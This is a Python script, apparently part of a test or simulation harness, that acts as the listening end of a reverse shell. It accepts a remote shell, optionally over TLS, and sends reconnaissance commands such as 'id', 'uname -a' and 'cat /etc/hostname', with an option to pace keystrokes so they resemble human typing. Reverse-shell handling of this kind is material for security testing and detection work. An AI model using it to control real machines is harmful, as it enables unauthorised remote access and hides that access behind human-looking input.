"""
The outside end of a reverse shell: `typist.py PORT [CERTIFICATE [keys]]`, with a certificate in TLS. Waits for it and types
commands, as a person would: whole lines, or key by key.
"""
import sys
import time

from wire import done, first_use, listen


def type_line(connection, line, by_key):
    for part in line if by_key else [line]:
        connection.sendall(part.encode())
        if by_key:
            time.sleep(0.05 + ord(part) % 7 / 60)


by_key = "keys" in sys.argv[3:]
server = listen(int(sys.argv[1]), sys.argv[2] if len(sys.argv) > 2 else None)
shell, _ = server.accept()
time.sleep(1)
first_use()
for command in ["id\n", "ls /\n", "uname -a\n", "cat /etc/hostname\n", "echo done\n"]:
    type_line(shell, command, by_key)
    time.sleep(0.5)
shell.settimeout(5)
answer = b""
while b"uid=" not in answer:
    piece = shell.recv(1 << 16)
    assert piece, answer
    answer += piece
time.sleep(1)
shell.sendall(b"exit\n")
time.sleep(0.2)
shell.close()
done()
